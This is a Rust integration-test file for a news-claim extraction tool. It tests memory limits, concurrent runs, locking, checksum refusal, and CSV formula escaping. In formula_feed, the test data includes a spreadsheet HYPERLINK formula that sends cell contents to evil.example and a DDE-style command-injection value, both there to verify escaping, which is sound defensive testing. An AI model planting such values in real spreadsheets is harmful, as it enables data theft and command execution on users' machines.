//! Hostile input, concurrent runs and spreadsheets: each input is generated
//! here, small, and run through the binary under a memory limit, checking
//! the exit code, the one-line message, the peak memory and that the other
//! inputs' claims (and everything stored) are still there.

use std::fs;
use std::io::{BufRead, BufReader, Read};
use std::os::unix::process::{CommandExt, ExitStatusExt};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Stdio};
use std::time::{Duration, Instant};

use econtrack::export::read_claims;
use econtrack::{Claim, synth};

use crate::{econtrack, stderr};

/// The address space a child may take: a blow-up fails an allocation
/// instead of taking the machine, and the peak check below says why.
const ADDRESS_SPACE: u64 = 2 << 30;

/// What every hostile input must stay under.
const PEAK_MB: u64 = 300;

/// How a run under the memory limit ended.
pub struct Limited {
    pub status: ExitStatus,
    pub stdout: String,
    pub stderr: String,
    /// Peak resident memory of the child, in MB.
    pub peak_mb: u64,
    pub seconds: f64,
}

/// Runs the binary with `args` in `cwd` under [`ADDRESS_SPACE`], and
/// measures its peak memory (`wait4`'s maximum resident set).
pub fn run_limited(cwd: &Path, args: &[&str]) -> Limited {
    let mut command = Command::new(env!("CARGO_BIN_EXE_econtrack"));
    command.args(args).current_dir(cwd).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
    // SAFETY: setrlimit is async-signal-safe and touches no memory of ours.
    unsafe {
        command.pre_exec(|| {
            let limit = libc::rlimit { rlim_cur: ADDRESS_SPACE, rlim_max: ADDRESS_SPACE };
            if libc::setrlimit(libc::RLIMIT_AS, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let start = Instant::now();
    let mut child = command.spawn().expect("the econtrack binary starts");
    let read_all = |mut pipe: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut text = Vec::new();
            pipe.read_to_end(&mut text).unwrap();
            String::from_utf8_lossy(&text).into_owned()
        })
    };
    let out = read_all(Box::new(child.stdout.take().unwrap()));
    let err = read_all(Box::new(child.stderr.take().unwrap()));
    let (mut status, mut usage) = (0, unsafe { std::mem::zeroed::<libc::rusage>() });
    // SAFETY: waits for our own child, which std has not reaped.
    let pid = unsafe { libc::wait4(child.id() as libc::pid_t, &mut status, 0, &mut usage) };
    assert_eq!(pid, child.id() as libc::pid_t, "wait4 failed: {}", std::io::Error::last_os_error());
    let seconds = start.elapsed().as_secs_f64();
    Limited {
        status: ExitStatus::from_raw(status),
        stdout: out.join().unwrap(),
        stderr: err.join().unwrap(),
        peak_mb: usage.ru_maxrss as u64 / 1024,
        seconds,
    }
}

impl Limited {
    /// Asserts the exit code and the memory bound, and that the run ended on
    /// its own (no signal, no abort).
    #[track_caller]
    pub fn expect(&self, code: i32, what: &str) -> &Self {
        assert_eq!(self.status.signal(), None, "{what}: killed by a signal; stderr:\n{}", self.stderr);
        assert_eq!(self.status.code(), Some(code), "{what}: exit code; stderr:\n{}", self.stderr);
        assert!(self.peak_mb < PEAK_MB, "{what}: peak memory {} MB", self.peak_mb);
        self
    }

    /// The stderr lines that mention `needle`.
    pub fn lines_with(&self, needle: &str) -> Vec<&str> {
        self.stderr.lines().filter(|l| l.contains(needle)).collect()
    }
}

/// A trade article of our generator as one JSONL line.
fn jsonl_line(seed: u64, index: usize) -> String {
    let a = synth::article(seed, index);
    serde_json::json!({"id": a.id, "title": a.title, "published": a.published.map(|d| d.to_string()), "text": a.text})
        .to_string()
}

/// `n` generated articles, one in five about trade, as a JSONL file.
fn write_feed(path: &Path, seed: u64, n: usize) {
    let lines: Vec<String> = (0..n).map(|i| jsonl_line(seed, i)).collect();
    fs::write(path, lines.join("\n") + "\n").unwrap();
}

fn ids(claims: &[Claim]) -> std::collections::BTreeSet<String> {
    claims.iter().map(|c| c.article_id.to_string()).collect()
}

fn run_args<'a>(articles: &'a Path, out: &'a Path, charts: &'a Path) -> Vec<&'a str> {
    vec!["run", "--articles", articles.to_str().unwrap(), "--out", out.to_str().unwrap(), "--charts", charts.to_str().unwrap()]
}

/// Two runs at once on one store, each over its own half of the articles:
/// both succeed and the store holds both halves.
#[test]
fn two_runs_at_once_on_one_store_lose_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    for (folder, seed) in [(&a, 1), (&b, 2)] {
        fs::create_dir_all(folder).unwrap();
        write_feed(&folder.join("feed.jsonl"), seed, 800);
    }
    let (out, charts) = (dir.path().join("data"), dir.path().join("charts"));
    let runs: Vec<_> = [&a, &b]
        .into_iter()
        .map(|folder| {
            let (folder, out, charts, cwd) = (folder.clone(), out.clone(), charts.clone(), dir.path().to_path_buf());
            std::thread::spawn(move || run_limited(&cwd, &run_args(&folder, &out, &charts)))
        })
        .collect();
    for run in runs {
        run.join().unwrap().expect(0, "a run beside another");
    }
    let stored = ids(&read_claims(&out.join("claims.parquet")).unwrap());
    for (folder, seed) in [(&a, 1), (&b, 2)] {
        let alone = dir.path().join(format!("alone-{seed}.jsonl"));
        let out = econtrack(dir.path(), &["extract", folder.to_str().unwrap(), "-o", alone.to_str().unwrap()]);
        assert!(out.status.success(), "{}", stderr(&out));
        let wanted = ids(&read_claims(&alone).unwrap());
        assert!(wanted.len() > 50, "{} articles with claims", wanted.len());
        assert!(wanted.is_subset(&stored), "articles of run {seed} lost: {}", wanted.difference(&stored).count());
    }
}

/// While another job holds the output folder, a run says so and waits,
/// writing nothing; once the folder is free it goes on.
#[test]
fn a_run_waits_for_the_folder_held_by_another() {
    let dir = tempfile::tempdir().unwrap();
    let articles = dir.path().join("articles");
    fs::create_dir_all(&articles).unwrap();
    write_feed(&articles.join("feed.jsonl"), 3, 200);
    let (out, charts) = (dir.path().join("data"), dir.path().join("charts"));
    fs::create_dir_all(&out).unwrap();
    let held = fs::File::create(out.join(".econtrack.lock")).unwrap();
    held.lock().unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_econtrack"))
        .args(run_args(&articles, &out, &charts))
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
    let first = lines.next().unwrap().unwrap();
    assert!(first.contains("another run is writing to") && first.contains("waiting for it to finish"), "{first}");
    std::thread::sleep(Duration::from_millis(300));
    assert!(!out.join("claims.parquet").exists(), "nothing is written while the folder is held");
    assert!(child.try_wait().unwrap().is_none(), "the run waits");
    drop(held);
    let rest: Vec<String> = lines.map(Result::unwrap).collect();
    assert!(child.wait().unwrap().success(), "{rest:?}");
    assert!(!read_claims(&out.join("claims.parquet")).unwrap().is_empty());
}

#[test]
fn an_output_that_is_an_input_is_refused_and_the_input_kept() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.jsonl");
    write_feed(&feed, 4, 20);
    let before = fs::read(&feed).unwrap();
    for output in ["feed.jsonl", "./feed.jsonl"] {
        let run = run_limited(dir.path(), &["extract", "feed.jsonl", "-o", output]);
        run.expect(2, "output = input");
        assert_eq!(run.lines_with("is one of the inputs").len(), 1, "{}", run.stderr);
        assert_eq!(fs::read(&feed).unwrap(), before, "the input is untouched");
    }
}

/// Every file in `dir`, by name, except the lock.
fn files_in(dir: &Path) -> std::collections::BTreeMap<String, Vec<u8>> {
    fs::read_dir(dir)
        .unwrap()
        .map(Result::unwrap)
        .filter(|e| e.file_name() != ".econtrack.lock")
        .map(|e| (e.file_name().to_string_lossy().into_owned(), fs::read(e.path()).unwrap()))
        .collect()
}

/// A run that fails after its claims are written (its charts folder cannot
/// be made) leaves every table as it was: no new claims beside old series.
#[test]
fn a_run_that_fails_late_leaves_all_tables_as_they_were() {
    let dir = tempfile::tempdir().unwrap();
    let articles = dir.path().join("articles");
    fs::create_dir_all(&articles).unwrap();
    write_feed(&articles.join("a.jsonl"), 5, 300);
    let (out, charts) = (dir.path().join("data"), dir.path().join("charts"));
    run_limited(dir.path(), &run_args(&articles, &out, &charts)).expect(0, "the first run");
    let before = files_in(&out);
    assert!(before.contains_key("claims.parquet") && before.contains_key("progress.csv") && before.contains_key("claims.parquet.sha256"));
    write_feed(&articles.join("b.jsonl"), 6, 300);
    let blocked = dir.path().join("not-a-folder");
    fs::write(&blocked, "a file where the charts folder should be").unwrap();
    let run = run_limited(dir.path(), &run_args(&articles, &out, &blocked));
    run.expect(2, "charts cannot be written");
    assert_eq!(run.lines_with("not-a-folder").len(), 1, "{}", run.stderr);
    assert_eq!(files_in(&out), before, "every table is as it was, and no temporary file is left");
    run_limited(dir.path(), &run_args(&articles, &out, &charts)).expect(0, "the run again, with a charts folder");
    assert_ne!(files_in(&out)["claims.csv"], before["claims.csv"]);
}

/// A store whose bytes were changed after it was written is refused, byte
/// flip by byte flip, and left as it is.
#[test]
fn a_damaged_store_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let articles = dir.path().join("articles");
    fs::create_dir_all(&articles).unwrap();
    write_feed(&articles.join("a.jsonl"), 7, 100);
    let (out, charts) = (dir.path().join("data"), dir.path().join("charts"));
    run_limited(dir.path(), &run_args(&articles, &out, &charts)).expect(0, "the first run");
    let store = out.join("claims.parquet");
    let good = fs::read(&store).unwrap();
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    for trial in 0..40 {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        let mut bad = good.clone();
        let at = (seed % bad.len() as u64) as usize;
        bad[at] ^= 1 << (seed >> 61);
        fs::write(&store, &bad).unwrap();
        let run = run_limited(dir.path(), &run_args(&articles, &out, &charts));
        run.expect(2, &format!("flip {trial} at byte {at}"));
        assert_eq!(run.lines_with("does not match its checksum").len(), 1, "{}", run.stderr);
        assert_eq!(fs::read(&store).unwrap(), bad, "a refused store is left as it is");
    }
    fs::write(&store, &good).unwrap();
    run_limited(dir.path(), &run_args(&articles, &out, &charts)).expect(0, "the store restored");
}

/// Articles whose id, source and first sentence start like formulas.
fn formula_feed(path: &Path) {
    let lines = [
        serde_json::json!({"id": "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")", "source": "@SUM(1+1)*cmd|' /C calc'!A0",
            "text": "-Trade between Kazakhstan and Kyrgyzstan reached $2 billion in 2023."}),
        serde_json::json!({"id": "+plus", "source": "\tTAB", "published": "2024-05-01",
            "text": "=1+1 Kazakhstan and Kyrgyzstan aim to raise mutual trade to $3 billion by 2030."}),
        serde_json::json!({"id": "'quoted", "source": "'=already quoted",
            "text": "Trade between Kazakhstan and Uzbekistan reached $4 billion in 2023."}),
    ];
    fs::write(path, lines.map(|l| l.to_string()).join("\n")).unwrap();
}

/// In every CSV we write, a cell that starts like a formula starts with `'`;
/// the claims CSV reads back to the same claims as the JSONL table.
#[test]
fn formula_like_cells_are_escaped_in_csv_and_kept_elsewhere() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.jsonl");
    formula_feed(&feed);
    for output in ["c.csv", "c.jsonl"] {
        run_limited(dir.path(), &["extract", "feed.jsonl", "-o", output]).expect(0, output);
    }
    let csv = fs::read_to_string(dir.path().join("c.csv")).unwrap();
    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"click\"\")\""), "{csv}");
    assert!(csv.contains("'-Trade between"), "{csv}");
    assert!(csv.contains("'@SUM(1+1)") && csv.contains("'+plus") && csv.contains("''quoted"), "{csv}");
    let jsonl = read_claims(&dir.path().join("c.jsonl")).unwrap();
    assert!(jsonl.iter().any(|c| c.evidence.starts_with("-Trade between")), "JSONL keeps the text as it is");
    assert_eq!(read_claims(&dir.path().join("c.csv")).unwrap(), jsonl, "the CSV reads back to the same claims");
    assert!(jsonl.len() >= 3, "{} claims", jsonl.len());
}

/// LibreOffice, with the import filter the README gives, finds no formula in
/// any CSV of a run. Skipped where `soffice` is not installed, unless
/// `ECONTRACK_REQUIRE_SOFFICE` is set (`.ci/run` installs it and sets that).
#[test]
fn libreoffice_opens_our_csv_without_a_formula() {
    if Command::new("soffice").arg("--version").output().is_err() {
        assert!(std::env::var_os("ECONTRACK_REQUIRE_SOFFICE").is_none(), "soffice is not installed");
        eprintln!("skipped: soffice is not installed");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let articles = dir.path().join("articles");
    fs::create_dir_all(&articles).unwrap();
    formula_feed(&articles.join("feed.jsonl"));
    let (out, charts) = (dir.path().join("data"), dir.path().join("charts"));
    run_limited(dir.path(), &run_args(&articles, &out, &charts)).expect(0, "run");
    let xlsx = dir.path().join("xlsx");
    let profile = format!("-env:UserInstallation=file://{}", dir.path().join("lo-profile").display());
    for table in ["claims", "series", "targets", "progress"] {
        let csv: PathBuf = out.join(format!("{table}.csv"));
        let converted = Command::new("soffice")
            .args([&profile, "--headless", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir"])
            .arg(&xlsx)
            .arg(&csv)
            .output()
            .unwrap();
        assert!(converted.status.success(), "{}", String::from_utf8_lossy(&converted.stderr));
        let sheet = Command::new("python3")
            .args(["-c", "import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet1.xml').decode())"])
            .arg(xlsx.join(format!("{table}.xlsx")))
            .output()
            .unwrap();
        let sheet = String::from_utf8_lossy(&sheet.stdout);
        assert!(sheet.contains("<sheetData"), "{table}: {sheet}");
        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{table}.csv has a formula cell: {sheet}");
    }
}

/// An error's cause is said once, not twice.
#[test]
fn an_error_says_its_cause_once() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("a-file"), "x").unwrap();
    let feed = dir.path().join("feed.jsonl");
    write_feed(&feed, 8, 5);
    let run = run_limited(dir.path(), &["extract", "feed.jsonl", "-o", "a-file/claims.csv"]);
    run.expect(2, "output under a file");
    let line = run.lines_with("(os error");
    assert_eq!(line.len(), 1, "{}", run.stderr);
    assert_eq!(line[0].matches("(os error").count(), 1, "{}", line[0]);
    assert!(line[0].contains("a-file"), "{}", line[0]);
}

/// A disk that fills up while the claims are written: the message names the
/// file, says the cause once, and the table is not half-written. Needs a
/// small tmpfs, so it runs where `mount` works (as root) and is skipped elsewhere.
#[test]
fn a_full_disk_names_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let tiny = dir.path().join("tiny");
    fs::create_dir_all(&tiny).unwrap();
    let mounted = Command::new("mount").args(["-t", "tmpfs", "-o", "size=256k", "tmpfs"]).arg(&tiny).output();
    if !mounted.is_ok_and(|m| m.status.success()) {
        eprintln!("skipped: cannot mount a small tmpfs here");
        return;
    }
    struct Unmount<'a>(&'a Path);
    impl Drop for Unmount<'_> {
        fn drop(&mut self) {
            let _ = Command::new("umount").arg(self.0).status();
        }
    }
    let _unmount = Unmount(&tiny);
    let feed = dir.path().join("feed.jsonl");
    write_feed(&feed, 9, 6000);
    let run = run_limited(dir.path(), &["extract", "feed.jsonl", "-o", tiny.join("claims.csv").to_str().unwrap()]);
    run.expect(2, "a full disk");
    let line = run.lines_with("No space left on device");
    assert_eq!(line.len(), 1, "{}", run.stderr);
    assert_eq!(line[0].matches("No space left on device").count(), 1, "{}", line[0]);
    assert!(line[0].contains(tiny.to_str().unwrap()), "the file is named: {}", line[0]);
    assert!(!tiny.join("claims.csv").exists(), "no half-written table");
    assert_eq!(fs::read_dir(&tiny).unwrap().count(), 0, "no temporary file is left");
}
